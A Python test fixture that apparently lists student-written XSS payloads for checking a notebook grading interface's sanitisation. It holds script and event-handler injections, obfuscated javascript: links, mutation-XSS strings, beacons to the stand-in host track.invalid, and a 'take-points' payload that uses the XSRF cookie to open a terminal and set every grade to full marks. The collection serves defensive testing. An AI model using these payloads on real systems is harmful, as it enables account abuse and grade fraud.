"""Texts that a hostile student writes: each would do something where it is shown.

``NAME`` stands for the name of the text. A text calls ``fire('NAME')``, which a test puts into
every
page, or asks for something of ``track.invalid``. Each holds ``word-NAME``, which a person must be
able to
read.
"""

from __future__ import annotations

import base64

FRAME = base64.b64encode(
    b"<script>parent.postMessage('x', '*'); fire('data-object')</script>"
).decode()

TEXTS: dict[str, str] = {
    "picture-handler": "word-NAME <img src=x onerror=\"fire('NAME')\">",
    "picture-block": "<img src=x onerror=\"fire('NAME')\">\n\nword-NAME",
    "script": "word-NAME\n\n<script>fire('NAME')</script>",
    "script-case": "word-NAME\n\n<ScRiPt >fire('NAME')</sCrIpT\t>",
    "svg-load": "word-NAME <svg onload=\"fire('NAME')\"></svg>",
    "svg-animate": "<svg><animate onbegin=\"fire('NAME')\" attributeName=x dur=1s></svg> word-NAME",
    "svg-script": "<svg><script>fire('NAME')</script></svg> word-NAME",
    "srcdoc": "<iframe srcdoc=\"<script>fire('NAME')</script>\"></iframe> word-NAME",
    "frame": "<iframe src=\"javascript:fire('NAME')\"></iframe> word-NAME",
    "data-object": f'<object data="data:text/html;base64,{FRAME}"></object> word-NAME',
    "embed": '<embed src="https://track.invalid/NAME" type="text/html"> word-NAME',
    "link": "word-NAME [read](javascript:fire('NAME'))",
    "link-reference": "word-NAME [read][NAME]\n\n[NAME]: javascript:fire('NAME')",
    "link-auto": "word-NAME <javascript:fire('NAME')>",
    "link-entity": "word-NAME [read](java&#115;cript:fire('NAME'))",
    "link-entity-html": "word-NAME <a href=\"&#x6a;avascript:fire('NAME')\">read</a>",
    "link-space": "word-NAME <a href=\"\x01 java\tscript:fire('NAME')\">read</a>",
    "link-case": "word-NAME [read](JaVaScRiPt:fire('NAME'))",
    "link-vbscript": "word-NAME [read](vbscript:fire('NAME'))",
    "link-data": "word-NAME [read](data:text/html,<script>fire('NAME')</script>)",
    "details": "<details open ontoggle=\"fire('NAME')\"><summary>word-NAME</summary>x</details>",
    "focus": "<input autofocus onfocus=\"fire('NAME')\"> word-NAME",
    "editable": "<b contenteditable tabindex=0 autofocus onfocus=\"fire('NAME')\">word-NAME</b>",
    "video": "<video><source onerror=\"fire('NAME')\"></video> word-NAME",
    "audio": "<audio src=x onerror=\"fire('NAME')\"></audio> word-NAME",
    "marquee": "<marquee onstart=\"fire('NAME')\">word-NAME</marquee>",
    "style-event": '<style>@keyframes k{}</style><p style="animation:k 1s" '
    "onanimationstart=\"fire('NAME')\">word-NAME</p>",
    "style-import": "<style>@import 'https://track.invalid/NAME';</style> word-NAME",
    "style-picture": '<p style="background:url(https://track.invalid/NAME)">word-NAME</p>',
    "picture-remote": "word-NAME ![a drawing](https://track.invalid/NAME.png)",
    "stylesheet": '<link rel=stylesheet href="https://track.invalid/NAME"> word-NAME',
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    "onerror=fire('NAME')&gt;\"> word-NAME",
    "mutation-noscript": '<noscript><p title="</noscript><img src=x '
    "onerror=fire('NAME')>\"></noscript> word-NAME",
    "cut-off": "word-NAME <img src=x onerror=fire('NAME') ",
    "code-fence": "```html</pre><img/src=x/onerror=fire('NAME')>\nword-NAME\n```",
    "code-span": "`</code><img src=x onerror=fire('NAME')>` word-NAME",
    "table": "| a |\n|---|\n| <img src=x onerror=fire('NAME')> word-NAME |",
    "formula-html": "$<img src=x onerror=fire('NAME')>$ word-NAME",
    "formula-link": "word-NAME $\\href{javascript:fire('NAME')}{x}$",
    "formula-block": "$$\n</span><img src=x onerror=fire('NAME')>\n$$\n\nword-NAME",
    "formula-environment": "\\begin{a}<img src=x onerror=fire('NAME')>\\end{a} word-NAME",
    "formula-require": "$\\require{action}\\toggle{a}{b}\\endtoggle$ word-NAME",
    "formula-macro": "$\\def\\a{\\a\\a}\\a$ word-NAME",
    "mermaid": "```mermaid\ngraph TD; A[\"<img src=x onerror=fire('NAME')>\"]\n```\n\nword-NAME",
    "command": '<button data-commandlinker-command="terminal:create-new" '
    'data-commandlinker-args="{}">word-NAME</button>',
    "button": '<button class="btn full-credit">word-NAME</button>',
    "score-field": '<input class="score" id="05-essay" value="5"> word-NAME',
    "heading-id": "# 05-essay-answer\n\nword-NAME",
    "form": '<form action="https://track.invalid/NAME"><button>word-NAME</button></form>',
    "placeholder": "@@0@@ @@1@@ word-NAME `@@2@@`",
    "end-of-block": "</div></div></div>\n\n<img src=x onerror=\"fire('NAME')\">\n\nword-NAME",
    "blank-in-code": "```\na\n\n<img src=x onerror=fire('NAME')>\n\nword-NAME\n```",
    "line-separator": "a\u2028\u2028<img src=x onerror=fire('NAME')>\x0b\x0c\x85word-NAME",
}
"""Shown one beside the other in one notebook: none of them leads away from the page."""

ALONE: dict[str, str] = {
    "refresh": '<meta http-equiv="refresh" content="0;url=https://track.invalid/NAME"> word-NAME',
    "base": '<base href="https://track.invalid/NAME/"> word-NAME',
    "attachment": "![x](attachment:x.svg) word-NAME",
    "take-points": "word-NAME <img src=x onerror=\"fire('NAME');const h={'X-XSRFToken':"
    "getCookie('_xsrf')};fetch('/api/terminals',{method:'POST',headers:h});"
    "fetch(base_url+'/api/grades?submission_id='+submission_id).then(r=>r.json()).then(all=>"
    "all.forEach(g=>fetch(base_url+'/api/grade/'+g.id,{method:'PUT',headers:h,"
    'body:JSON.stringify({...g,manual_score:g.max_score})})))">',
}
"""Each in a notebook of its own, since it would lead away from the page or break it."""

CODE: dict[str, str] = {
    "code-comment": "# </pre></div><script>fire('NAME')</script><img src=x onerror=fire('NAME')> "
    "word-NAME",
    "code-magic": "%%html\n<img src=x onerror=fire('NAME')>word-NAME",
    "output-html": "from IPython.display import HTML, display\n"
    "display(HTML(\"word-NAME <img src=x onerror=fire('NAME')>\"))",
    "output-script": "from IPython.display import Javascript, display\n"
    "display(Javascript(\"fire('NAME')\"), 'word-NAME')",
    "output-svg": "from IPython.display import SVG, display\n"
    "display(SVG(\"<svg xmlns='http://www.w3.org/2000/svg' onload='fire(1)'/>\"), 'word-NAME')",
    "output-markdown": "from IPython.display import Markdown, display\n"
    "display(Markdown(\"<img src=x onerror=fire('NAME')>\"), 'word-NAME')",
    "output-latex": "from IPython.display import Latex, display\n"
    "display(Latex(\"$</div><img src=x onerror=fire('NAME')>$\"), 'word-NAME')",
    "output-text": "print(\"</pre><img src=x onerror=fire('NAME')> word-NAME\")",
    "output-ansi": "print("
    "\"\\x1b[1m\\x1b]8;;javascript:fire('NAME')\\x07word-NAME\\x1b]8;;\\x07\")",
    "output-error": "raise ValueError(\"</pre><img src=x onerror=fire('NAME')> word-NAME\")",
}
"""Code cells: what stands in them, and what they show when they run."""


def text_of(name: str) -> str:
    """The text, with its own name in it."""
    return (TEXTS | ALONE | CODE)[name].replace("NAME", name)
